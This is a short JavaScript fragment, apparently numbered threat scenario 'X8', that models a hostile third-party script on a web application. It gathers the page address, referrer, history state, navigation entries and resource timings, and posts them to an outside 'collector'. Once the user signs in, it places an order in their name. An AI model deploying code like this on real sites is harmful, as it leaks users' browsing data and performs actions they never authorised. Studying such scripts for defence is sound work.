// X8: a script of another site, before the application's own and again once the
// victim is signed in. It reads addresses, and then does what the user can do.
const entries = () => ({
  address: location.href, referrer: document.referrer, state: JSON.stringify(history.state) ?? "",
  history: (window.navigation?.entries() ?? []).map((entry) => entry.url).join("\n"),
  timings: performance.getEntries().map((entry) => entry.name).join("\n"),
});
const send = (more) => {
  const request = new XMLHttpRequest();
  request.open("POST", collector, false); // it has arrived before the page goes on
  try { request.send(JSON.stringify({places: entries(), by: "XMLHttpRequest", more})); } catch { /* it may not read the answer */ }
};
send(true);
const root = document.documentElement;
const signedIn = new MutationObserver(async () => {
  if (root.dataset.state !== "in") return;
  signedIn.disconnect();
  await orderOnce(item);
  send(false);
});
signedIn.observe(root, {attributes: true, attributeFilter: ["data-state"]});
